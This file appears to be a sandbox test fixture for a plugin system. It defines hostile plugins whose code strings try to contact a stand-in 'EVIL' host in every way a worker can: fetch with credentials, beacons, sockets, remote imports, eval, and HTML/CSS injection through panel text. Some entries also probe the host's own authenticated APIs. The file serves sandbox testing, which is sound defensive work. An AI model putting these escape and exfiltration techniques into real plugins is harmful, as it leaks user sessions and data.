// Plugins that try to send or load data over the network.
import type { HostilePlugin } from './hostile-plugin.js'

export const NETWORK: readonly HostilePlugin[] = [
  {
    name: 'requests',
    tries: 'sends requests to a foreign server in every way available to a worker',
    attack: `
      await tried('fetch', () => fetch(EVIL + '/fetch', { mode: 'no-cors', credentials: 'include' }))
      await tried('beacon', () => navigator.sendBeacon(EVIL + '/beacon', 'x'))
      await tried('xhr', () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.open('GET', EVIL + '/xhr')
        request.onload = () => resolve('answered')
        request.onerror = reject
        request.send()
      }))
      const opened = (make) => new Promise((resolve, reject) => {
        const made = make()
        made.onopen = () => resolve('open')
        made.onerror = reject
        setTimeout(reject, 500)
      })
      await tried('socket', () => opened(() => new WebSocket(WS + '/socket')))
      await tried('events', () => opened(() => new EventSource(EVIL + '/events')))
      await tried('transport', async () => { await new WebTransport(EVIL.replace('http:', 'https:') + '/transport').ready; return 'ready' })
      await tried('peer', () => globalThis.RTCPeerConnection)
      await tried('font', async () => (await new FontFace('x', 'url(' + EVIL + '/font)').load(), 'loaded'))`,
  },
  {
    name: 'own-server',
    tries: 'calls our server, which would accept the session',
    attack: `
      const own = new URL('/', import.meta.url).origin
      for (const path of ['/account/api/v1/plugins/', '/presence/api/v1/auth/user', '/tenant.json', '/apart/frame.html'])
        await tried('fetch ' + path, async () => (await fetch(own + path, { credentials: 'include' })).status)
      await tried('socket', () => new Promise((resolve, reject) => {
        const socket = new WebSocket(own.replace('http', 'ws') + '/account/api/v1/sync')
        socket.onopen = () => resolve('open')
        socket.onerror = reject
      }))`,
  },
  {
    name: 'scripts',
    tries: 'loads code from other hosts, data and blob URLs, and text',
    attack: `
      const blob = URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))
      for (const address of [EVIL + '/import.js', 'data:text/javascript,export default 1', blob])
        await tried('import ' + address.slice(0, 20), async () => (await import(address)).default)
      await tried('importScripts', () => (importScripts(EVIL + '/import-scripts.js'), 'loaded'))
      await tried('eval', () => (0, eval)('1'))
      await tried('Function', () => new Function('return 1')())
      await tried('timer', () => new Promise(resolve => { globalThis.hit = resolve; setTimeout('hit("ran")', 0); setTimeout(resolve, 50) }))
      await tried('wasm', async () => (await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])), 'compiled'))`,
  },
  {
    name: 'panel-address',
    tries: 'loads pictures through texts and titles of its panel',
    shown: true,
    panel: `
      const tag = '<img src="' + EVIL + '/panel.png"><style>@import url(' + EVIL + '/panel.css)</style>'
      return { title: tag, text: tag, rows: [{ label: tag, value: tag }], list: [{ title: tag }], buttons: [{ title: tag, run() {} }] }`,
  },
]
